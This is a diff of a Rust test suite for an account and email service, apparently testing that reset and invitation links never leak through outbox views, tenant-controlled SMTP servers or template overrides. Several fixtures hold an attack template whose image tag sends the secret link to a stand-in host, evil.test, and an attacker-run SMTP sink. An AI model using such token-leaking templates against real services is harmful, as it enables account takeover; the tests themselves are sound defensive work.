@@ -7,7 +7,7 @@ use std::time::Duration;
 use reqwest::Method;
 use roster_service::{Hasher, MailPolicy};
 use roster_store::{MembershipRow, UserRow};
-use roster_testkit::app::{AppOptions, PASSWORD, TestApp, TestUser, each_backend, spawn_app_opts, test_mail_policy};
+use roster_testkit::app::{Answer, PASSWORD, Page, TestApp, TestUser, each_backend, test_mail_policy};
 use roster_testkit::db::backends;
 use roster_testkit::smtp::{Received, SmtpSink};
 use serde_json::{Value, json};
@@ -27,7 +27,8 @@ async fn owner_of(app: &TestApp, email: &str, name: &str) -> (String, Uuid) {
 /// Points the account's own server at `sink` (the attacker's server).
 async fn own_server(app: &TestApp, token: &str, account: Uuid, sink: &SmtpSink) {
     let body = json!({"host": "127.0.0.1", "port": sink.port, "security": "none", "from_address": "m@evil.test"});
-    let (status, view) = app.send(Method::PUT, &format!("/api/v1/accounts/{account}/smtp"), token, Some(body)).await;
+    let Answer { status, body: view } =
+        app.send(Method::PUT, &format!("/api/v1/accounts/{account}/smtp"), token, Some(body)).await;
     assert_eq!(status, 200, "{view}");
 }
 
@@ -64,7 +65,7 @@ async fn unproved(app: &TestApp, email: &str, account: Option<(Uuid, &str)>) -> 
         tx.insert_membership(&MembershipRow::new(a, user.id, role, now)).await.unwrap();
     }
     tx.commit().await.unwrap();
-    TestUser { id: user.id, email: user.email, password: PASSWORD.into() }
+    TestUser { id: user.id, email: user.email, password: PASSWORD.into(), token: None, account: None }
 }
 
 /// Every way an admin or an operator can look at an email: both APIs and both console pages.
@@ -77,7 +78,7 @@ async fn every_view(app: &TestApp, owner_email: &str, account: Uuid, id: &str) -
         (format!("/api/v1/accounts/{account}/emails/{id}"), &owner_token),
         ("/api/v1/emails".to_owned(), &op_token),
     ] {
-        let (status, body) = app.get_json(&path, Some(token)).await;
+        let Answer { status, body } = app.get_json(&path, Some(token)).await;
         assert_eq!(status, 200, "{path}: {body}");
         seen.push_str(&body.to_string());
     }
@@ -85,7 +86,7 @@ async fn every_view(app: &TestApp, owner_email: &str, account: Uuid, id: &str) -
     for path in
         [format!("/accounts/{account}/emails"), format!("/accounts/{account}/emails/{id}"), format!("/emails/{id}")]
     {
-        let (status, html) = app.page(&path, &cookie).await;
+        let Page { status, html } = app.page(&path, &cookie).await;
         assert!(status == 200 || status == 303, "{path}: {status}");
         seen.push_str(&html);
     }
@@ -94,7 +95,7 @@ async fn every_view(app: &TestApp, owner_email: &str, account: Uuid, id: &str) -
 
 /// The newest email of the account's outbox.
 async fn newest_email(app: &TestApp, token: &str, account: Uuid) -> Value {
-    let (_, list) = app.get_json(&format!("/api/v1/accounts/{account}/emails"), Some(token)).await;
+    let list = app.get_json(&format!("/api/v1/accounts/{account}/emails"), Some(token)).await.body;
     list["items"][0].clone()
 }
 
@@ -111,12 +112,12 @@ async fn r_mail_6_reset_link_is_hidden_in_every_outbox_view() {
     each_backend(|app| async move {
         let (t, m) = owner_of(&app, "olga@example.test", "Acme").await;
         let pat = app.seed_members(m, "employee", &[("Pat", "Member", "pat@example.test")]).await.remove(0);
-        let (status, body) =
+        let Answer { status, body } =
             app.send(Method::POST, &format!("/api/v1/accounts/{m}/users/{}/password-reset", pat.id), &t, None).await;
         assert_eq!(status, 202, "{body}");
         let email = newest_email(&app, &t, m).await;
         let id = email["id"].as_str().unwrap().to_owned();
-        let (_, detail) = app.get_json(&format!("/api/v1/accounts/{m}/emails/{id}"), Some(&t)).await;
+        let detail = app.get_json(&format!("/api/v1/accounts/{m}/emails/{id}"), Some(&t)).await.body;
         assert!(detail["text"].as_str().unwrap().contains("[link hidden]"), "{detail}");
         let seen = every_view(&app, "olga@example.test", m, &id).await;
         assert!(!seen.contains("reset_"), "a reset token shows in a view");
@@ -126,7 +127,7 @@ async fn r_mail_6_reset_link_is_hidden_in_every_outbox_view() {
         assert_eq!(got.to, vec!["pat@example.test".to_owned()]);
         assert!(!got.data.contains("[link hidden]"));
         let confirm = json!({ "token": token_in(&got, "reset_"), "password": "a fresh long passphrase 9" });
-        let (status, body) = app.post_json("/api/v1/auth/password-reset/confirm", None, &confirm).await;
+        let Answer { status, body } = app.post_json("/api/v1/auth/password-reset/confirm", None, &confirm).await;
         assert_eq!(status, 204, "{body}");
     })
     .await;
@@ -148,7 +149,7 @@ async fn r_mail_6_reset_of_a_shared_login_or_an_operator_never_goes_through_the_
 
         for who in [victim.id, op.id] {
             let path = format!("/api/v1/accounts/{m}/users/{who}/password-reset");
-            let (status, body) = app.send(Method::POST, &path, &t, None).await;
+            let Answer { status, body } = app.send(Method::POST, &path, &t, None).await;
             assert_eq!(status, 202, "{body}");
         }
         let got = app.smtp.wait_for(2, WAIT).await;
@@ -160,7 +161,7 @@ async fn r_mail_6_reset_of_a_shared_login_or_an_operator_never_goes_through_the_
         }
         // A member the account alone answers for still gets the account's own server.
         let path = format!("/api/v1/accounts/{m}/users/{}/password-reset", own.id);
-        assert_eq!(app.send(Method::POST, &path, &t, None).await.0, 202);
+        assert_eq!(app.send(Method::POST, &path, &t, None).await.status, 202);
         let theirs = attacker.wait_for(1, WAIT).await;
         assert_eq!(theirs.len(), 1);
         assert_eq!(theirs[0].to, vec!["own@example.test".to_owned()]);
@@ -178,7 +179,7 @@ async fn r_mail_6_impersonation_notice_goes_through_the_installation_server_only
         let pat = app.seed_members(m, "employee", &[("Pat", "Member", "pat@example.test")]).await.remove(0);
         own_server(&app, &t, m, &attacker).await;
         let path = format!("/api/v1/accounts/{m}/users/{}/impersonate", pat.id);
-        let (status, body) = app.send(Method::POST, &path, &t, Some(json!({"reason": "Ticket 42"}))).await;
+        let Answer { status, body } = app.send(Method::POST, &path, &t, Some(json!({"reason": "Ticket 42"}))).await;
         assert_eq!(status, 200, "{body}");
         let got = app.smtp.wait_for(1, WAIT).await;
         assert_eq!(got[0].to, vec!["pat@example.test".to_owned()]);
@@ -192,7 +193,7 @@ async fn r_mail_6_impersonation_notice_goes_through_the_installation_server_only
 async fn r_mail_6_an_inviter_cannot_read_their_invitation_link_in_the_outbox() {
     each_backend(|app| async move {
         let (t, m) = owner_of(&app, "olga@example.test", "Acme").await;
-        let (status, body) = app
+        let Answer { status, body } = app
             .send(
                 Method::POST,
                 &format!("/api/v1/accounts/{m}/invitations"),
@@ -219,13 +220,16 @@ async fn r_mail_6_an_override_cannot_carry_the_link_of_someone_else() {
             "text": "Join: {{ link }}",
             "html": "<p><img src=\"https://evil.test/?{{ link }}\"><a href=\"{{ link }}\">Join</a></p>"});
         let path = format!("/api/v1/accounts/{m}/email-templates/invitation");
-        let (status, view) = app.send(Method::PUT, &path, &t, Some(evil)).await;
+        let Answer { status, body: view } = app.send(Method::PUT, &path, &t, Some(evil)).await;
         assert_eq!((status, &view["carries_secret"]), (200, &json!(true)), "{view}");
         let cookie = app.console_sign_in("olga@example.test").await;
-        let (_, editor) = app.page(&format!("/accounts/{m}/email-templates/invitation"), &cookie).await;
+        let editor = app.page(&format!("/accounts/{m}/email-templates/invitation"), &cookie).await.html;
         assert!(editor.contains("secret-note"), "the editor says where the version is used");
         let invite = json!({"email": "newhire@b.test"});
-        assert_eq!(app.send(Method::POST, &format!("/api/v1/accounts/{m}/invitations"), &t, Some(invite)).await.0, 201);
+        assert_eq!(
+            app.send(Method::POST, &format!("/api/v1/accounts/{m}/invitations"), &t, Some(invite)).await.status,
+            201
+        );
         let got = app.smtp.wait_for(1, WAIT).await.remove(0);
         assert!(!got.data.contains("evil.test"), "the built-in template is used: {}", got.data);
         assert!(!token_in(&got, "invite_").is_empty());
@@ -239,7 +243,8 @@ async fn r_mail_6_the_bcc_copy_of_a_welcome_carries_no_link() {
         let (t, m) = owner_of(&app, "olga@example.test", "Acme").await;
         let body = json!({ "email": "ben@example.test", "first_name": "Ben", "last_name": "New",
             "welcome_subject": "Your Acme login", "bcc_me": true });
-        let (status, body) = app.send(Method::POST, &format!("/api/v1/accounts/{m}/users"), &t, Some(body)).await;
+        let Answer { status, body } =
+            app.send(Method::POST, &format!("/api/v1/accounts/{m}/users"), &t, Some(body)).await;
         assert_eq!(status, 201, "{body}");
         let got = app.smtp.wait_for(2, WAIT).await;
         let ben = got.iter().find(|r| r.to == ["ben@example.test"]).expect("the welcome");
@@ -257,14 +262,14 @@ async fn r_mail_6_the_bcc_copy_of_a_welcome_carries_no_link() {
 
 // ---- R-MAIL-7: tenant SMTP egress ----
 
-fn strict() -> AppOptions {
-    AppOptions { mail: MailPolicy { allow_private_smtp: false, ..test_mail_policy() }, ..AppOptions::default() }
+fn strict() -> MailPolicy {
+    MailPolicy { allow_private_smtp: false, ..test_mail_policy() }
 }
 
 #[tokio::test]
 async fn r_mail_7_private_hosts_and_other_ports_are_refused() {
     for backend in backends().await {
-        let app = spawn_app_opts(backend, strict()).await;
+        let app = TestApp::builder().backend(backend).mail_policy(strict()).build().await;
         let (t, m) = owner_of(&app, "olga@example.test", "Acme").await;
         let path = format!("/api/v1/accounts/{m}/smtp");
         for (host, port, field) in [
@@ -280,13 +285,13 @@ async fn r_mail_7_private_hosts_and_other_ports_are_refused() {
             ("8.8.8.8", 22, "port"),
         ] {
             let body = json!({"host": host, "port": port, "security": "none", "from_address": "m@acme.test"});
-            let (status, problem) = app.send(Method::PUT, &path, &t, Some(body)).await;
+            let Answer { status, body: problem } = app.send(Method::PUT, &path, &t, Some(body)).await;
             assert_eq!((status, problem["code"].as_str()), (422, Some("smtp_host_refused")), "{host}:{port} {problem}");
             let fields: Vec<&str> =
                 problem["errors"].as_array().unwrap().iter().map(|e| e["field"].as_str().unwrap()).collect();
             assert!(fields.contains(&field), "{host}:{port} names {field}: {problem}");
         }
-        assert_eq!(app.get_json(&path, Some(&t)).await.1, Value::Null, "nothing was saved");
+        assert_eq!(app.get_json(&path, Some(&t)).await.body, Value::Null, "nothing was saved");
         // A server saved while private ones were allowed is checked again when used.
         let mut tx = app.db.store.begin().await.unwrap();
         tx.put_smtp_settings(&roster_store::SmtpSettingsRow {
@@ -302,17 +307,18 @@ async fn r_mail_7_private_hosts_and_other_ports_are_refused() {
         .await
         .unwrap();
         tx.commit().await.unwrap();
-        let (status, answer) = app.send(Method::POST, &format!("{path}/test"), &t, Some(json!({}))).await;
+        let Answer { status, body: answer } =
+            app.send(Method::POST, &format!("{path}/test"), &t, Some(json!({}))).await;
         assert_eq!((status, &answer["ok"]), (200, &json!(false)), "{answer}");
         assert!(answer["message"].as_str().unwrap().contains("refused"), "{answer}");
         // And at delivery: the email waits with the refusal as its error, never reaching the server.
         let path = format!("/api/v1/accounts/{m}/email-templates/password_changed/test");
-        let (status, email) = app.send(Method::POST, &path, &t, None).await;
+        let Answer { status, body: email } = app.send(Method::POST, &path, &t, None).await;
         assert_eq!(status, 202, "{email}");
         let id = email["id"].as_str().unwrap().to_owned();
         let deadline = tokio::time::Instant::now() + WAIT;
         loop {
-            let (_, email) = app.get_json(&format!("/api/v1/accounts/{m}/emails/{id}"), Some(&t)).await;
+            let email = app.get_json(&format!("/api/v1/accounts/{m}/emails/{id}"), Some(&t)).await.body;
             if email["attempts"].as_i64().unwrap_or(0) >= 1 {
                 assert_eq!(email["status"], "queued", "{email}");
                 assert!(email["last_error"].as_str().unwrap().contains("refused"), "{email}");
@@ -345,25 +351,22 @@ async fn listener_saying(banner: &'static [u8]) -> u16 {
 async fn r_mail_7_the_test_answer_never_repeats_a_non_smtp_peers_bytes_and_a_silent_port_times_out() {
     for backend in backends().await {
         // Private servers allowed, so the test reaches listeners on 127.0.0.1.
-        let opts = AppOptions {
-            mail: MailPolicy { smtp_timeout: Duration::from_secs(2), ..test_mail_policy() },
-            ..AppOptions::default()
-        };
-        let app = spawn_app_opts(backend, opts).await;
+        let policy = MailPolicy { smtp_timeout: Duration::from_secs(2), ..test_mail_policy() };
+        let app = TestApp::builder().backend(backend).mail_policy(policy).build().await;
         let (t, m) = owner_of(&app, "olga@example.test", "Acme").await;
         let path = format!("/api/v1/accounts/{m}/smtp");
         let ssh = listener_saying(b"SSH-2.0-OpenSSH_9.2\r\n").await;
         let body = json!({"host": "127.0.0.1", "port": ssh, "security": "none", "from_address": "m@acme.test"});
-        assert_eq!(app.send(Method::PUT, &path, &t, Some(body)).await.0, 200);
+        assert_eq!(app.send(Method::PUT, &path, &t, Some(body)).await.status, 200);
         for test in [json!({}), json!({"to": "olga@example.test"})] {
-            let (status, answer) = app.send(Method::POST, &format!("{path}/test"), &t, Some(test)).await;
+            let Answer { status, body: answer } = app.send(Method::POST, &format!("{path}/test"), &t, Some(test)).await;
             assert_eq!((status, &answer["ok"]), (200, &json!(false)), "{answer}");
             let message = answer["message"].as_str().unwrap();
             assert!(message.ends_with("not an SMTP server"), "{message}");
             assert!(!message.contains("SSH") && !message.contains("OpenSSH"), "{message}");
         }
         let cookie = app.console_sign_in("olga@example.test").await;
-        let (_, form) = app.page(&format!("/accounts/{m}/settings/email"), &cookie).await;
+        let form = app.page(&format!("/accounts/{m}/settings/email"), &cookie).await.html;
         let csrf = roster_testkit::app::csrf_of(&form);
         let res = app
             .client
@@ -378,9 +381,10 @@ async fn r_mail_7_the_test_answer_never_repeats_a_non_smtp_peers_bytes_and_a_sil
 
         let silent = listener_saying(b"").await;
         let body = json!({"host": "127.0.0.1", "port": silent, "security": "none", "from_address": "m@acme.test"});
-        assert_eq!(app.send(Method::PUT, &path, &t, Some(body)).await.0, 200);
+        assert_eq!(app.send(Method::PUT, &path, &t, Some(body)).await.status, 200);
         let started = std::time::Instant::now();
-        let (status, answer) = app.send(Method::POST, &format!("{path}/test"), &t, Some(json!({}))).await;
+        let Answer { status, body: answer } =
+            app.send(Method::POST, &format!("{path}/test"), &t, Some(json!({}))).await;
         assert!(started.elapsed() < Duration::from_secs(5), "answered after {:?}", started.elapsed());
         assert_eq!((status, &answer["ok"]), (200, &json!(false)), "{answer}");
         assert!(answer["message"].as_str().unwrap().ends_with("timed out"), "{answer}");
@@ -392,15 +396,18 @@ async fn r_mail_7_test_emails_go_only_to_the_callers_own_proved_address() {
     each_backend(|app| async move {
         let (t, m) = owner_of(&app, "olga@example.test", "Acme").await;
         let path = format!("/api/v1/accounts/{m}/smtp/test");
-        let (status, problem) = app.send(Method::POST, &path, &t, Some(json!({"to": "victim@else.test"}))).await;
+        let Answer { status, body: problem } =
+            app.send(Method::POST, &path, &t, Some(json!({"to": "victim@else.test"}))).await;
         assert_eq!((status, problem["errors"][0]["field"].as_str()), (422, Some("to")), "{problem}");
-        let (status, answer) = app.send(Method::POST, &path, &t, Some(json!({"to": "olga@example.test"}))).await;
+        let Answer { status, body: answer } =
+            app.send(Method::POST, &path, &t, Some(json!({"to": "olga@example.test"}))).await;
         assert_eq!((status, &answer["ok"]), (200, &json!(true)), "{answer}");
         assert_eq!(app.smtp.wait_for(1, WAIT).await[0].to, vec!["olga@example.test".to_owned()]);
         // An admin whose own address nobody proved sends no test email, not even to it.
         let una = unproved(&app, "una@example.test", Some((m, "admin"))).await;
         let ut = app.token(&una.email, Some(m)).await;
-        let (status, problem) = app.send(Method::POST, &path, &ut, Some(json!({"to": "una@example.test"}))).await;
+        let Answer { status, body: problem } =
+            app.send(Method::POST, &path, &ut, Some(json!({"to": "una@example.test"}))).await;
         assert_eq!((status, problem["errors"][0]["field"].as_str()), (422, Some("to")), "{problem}");
         assert_eq!(app.smtp.count(), 1);
     })
@@ -415,7 +422,7 @@ async fn r_mail_7_the_21st_email_of_a_new_account_in_an_hour_is_refused() {
         let (t, m) = owner_of(&app, "olga@example.test", "Fresh").await;
         let path = format!("/api/v1/accounts/{m}/email-templates/password_changed/test");
         for n in 0..20 {
-            let (status, body) = app.send(Method::POST, &path, &t, None).await;
+            let Answer { status, body } = app.send(Method::POST, &path, &t, None).await;
             assert_eq!(status, 202, "email {n}: {body}");
         }
         let res = app.client.post(app.at(&path)).bearer_auth(&t).send().await.unwrap();
@@ -427,7 +434,7 @@ async fn r_mail_7_the_21st_email_of_a_new_account_in_an_hour_is_refused() {
         assert!(problem["detail"].as_str().unwrap().contains("20 emails"), "{problem}");
         // The console says so on a page of its own.
         let cookie = app.console_sign_in("olga@example.test").await;
-        let (_, form) = app.page(&format!("/accounts/{m}/email-templates/password_changed"), &cookie).await;
+        let form = app.page(&format!("/accounts/{m}/email-templates/password_changed"), &cookie).await.html;
         let csrf = roster_testkit::app::csrf_of(&form);
         let res = app
             .client
@@ -449,10 +456,10 @@ async fn r_mail_7_more_than_200_bulk_invitations_are_refused() {
         let (t, m) = owner_of(&app, "olga@example.test", "Acme").await;
         let rows: Vec<Value> = (0..201).map(|i| json!({"email": format!("p{i}@spam.test")})).collect();
         let path = format!("/api/v1/accounts/{m}/invitations/bulk");
-        let (status, problem) = app.send(Method::POST, &path, &t, Some(Value::Array(rows))).await;
+        let Answer { status, body: problem } = app.send(Method::POST, &path, &t, Some(Value::Array(rows))).await;
         assert_eq!((status, problem["code"].as_str()), (429, Some("bulk_limit")), "{problem}");
         assert!(problem["detail"].as_str().unwrap().contains("200"), "{problem}");
-        let (_, list) = app.get_json(&format!("/api/v1/accounts/{m}/emails"), Some(&t)).await;
+        let list = app.get_json(&format!("/api/v1/accounts/{m}/emails"), Some(&t)).await.body;
         assert_eq!(list["items"].as_array().unwrap().len(), 0, "nothing was queued");
     })
     .await;
@@ -469,7 +476,7 @@ async fn r_auth_8_an_account_whose_owner_has_not_proved_their_address_sends_no_e
         let t = app.token(&una.email, None).await;
         let m = app.create_account(&t, "Squat Ltd").await;
         let t = app.token(&una.email, Some(m)).await;
-        let (status, problem) =
+        let Answer { status, body: problem } =
             app.send(Method::POST, &format!("/api/v1/accounts/{m}/email-templates/welcome/test"), &t, None).await;
         assert_eq!(
             (status, problem["code"].as_str(), problem["rule"].as_str()),
@@ -477,10 +484,10 @@ async fn r_auth_8_an_account_whose_owner_has_not_proved_their_address_sends_no_e
             "{problem}"
         );
         let invite = json!({"email": "someone@else.test"});
-        let (status, problem) =
+        let Answer { status, body: problem } =
             app.send(Method::POST, &format!("/api/v1/accounts/{m}/invitations"), &t, Some(invite)).await;
         assert_eq!((status, problem["code"].as_str()), (409, Some("owner_unverified")), "{problem}");
-        let (_, list) = app.get_json(&format!("/api/v1/accounts/{m}/emails"), Some(&t)).await;
+        let list = app.get_json(&format!("/api/v1/accounts/{m}/emails"), Some(&t)).await.body;
         assert_eq!(list["items"].as_array().unwrap().len(), 0);
     })
     .await;
@@ -495,33 +502,34 @@ async fn r_perm_1_a_settings_holder_with_fewer_rights_cannot_redirect_secrets() 
     each_backend(|app| async move {
         let (t, m) = owner_of(&app, "olga@example.test", "Acme").await;
         let role = json!({ "name": "Office", "permissions": ["account.settings", "users.view"] });
-        let (status, body) = app.post_json(&format!("/api/v1/accounts/{m}/roles"), Some(&t), &role).await;
+        let Answer { status, body } = app.post_json(&format!("/api/v1/accounts/{m}/roles"), Some(&t), &role).await;
         assert_eq!(status, 201, "{body}");
         let office = app.seed_members(m, "customer", &[("Oz", "Office", "oz@acme.test")]).await.remove(0);
         let path = format!("/api/v1/accounts/{m}/users/{}", office.id);
-        let (status, body) = app.send(Method::PATCH, &path, &t, Some(json!({ "role": "Office" }))).await;
+        let Answer { status, body } = app.send(Method::PATCH, &path, &t, Some(json!({ "role": "Office" }))).await;
         assert_eq!(status, 200, "{body}");
         let ot = app.token("oz@acme.test", Some(m)).await;
         let attacker = SmtpSink::start().await;
 
         let server =
             json!({"host": "127.0.0.1", "port": attacker.port, "security": "none", "from_address": "m@evil.test"});
-        let (status, body) = app.send(Method::PUT, &format!("/api/v1/accounts/{m}/smtp"), &ot, Some(server)).await;
+        let Answer { status, body } =
+            app.send(Method::PUT, &format!("/api/v1/accounts/{m}/smtp"), &ot, Some(server)).await;
         assert_eq!(status, 403, "the server is refused: {body}");
         let evil = json!({"subject": "Reset", "text": "{{ link }}",
             "html": "<p><img src=\"https://evil.test/?{{ link }}\"><a href=\"{{ link }}\">Reset</a></p>"});
         let secret_template = format!("/api/v1/accounts/{m}/email-templates/password_reset");
-        let (status, body) = app.send(Method::PUT, &secret_template, &ot, Some(evil.clone())).await;
+        let Answer { status, body } = app.send(Method::PUT, &secret_template, &ot, Some(evil.clone())).await;
         assert_eq!(status, 403, "a link-carrying template is refused: {body}");
         let plain =
             json!({"subject": "Changed", "text": "Your password changed {{ changed_at }}", "html": "<p>Changed</p>"});
         let plain_template = format!("/api/v1/accounts/{m}/email-templates/password_changed");
-        let (status, body) = app.send(Method::PUT, &plain_template, &ot, Some(plain)).await;
+        let Answer { status, body } = app.send(Method::PUT, &plain_template, &ot, Some(plain)).await;
         assert_eq!(status, 200, "a template without a secret stays theirs to edit: {body}");
 
         // The owner, who holds everything, still may.
         own_server(&app, &t, m, &attacker).await;
-        assert_eq!(app.send(Method::PUT, &secret_template, &t, Some(evil)).await.0, 200);
+        assert_eq!(app.send(Method::PUT, &secret_template, &t, Some(evil)).await.status, 200);
     })
     .await;
 }
